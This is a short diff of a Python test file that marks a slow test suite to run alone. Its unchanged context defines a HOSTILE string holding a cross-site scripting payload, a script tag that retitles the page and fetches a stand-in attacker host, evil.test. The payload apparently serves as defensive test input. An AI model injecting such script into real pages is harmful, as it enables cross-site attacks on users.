@@ -22,7 +22,7 @@ from tests.test_inspection import compared
 from tests.tiny_model import ROOT, save_config, save_dataset, save_model
 from tests.workspace import Workspace, workspace
 
-pytestmark = pytest.mark.slow
+pytestmark = [pytest.mark.slow, pytest.mark.alone]
 expect.set_options(timeout=20_000)
 HOSTILE = (
     "<script>document.title = 'owned'; fetch('http://evil.test/x')</script>"
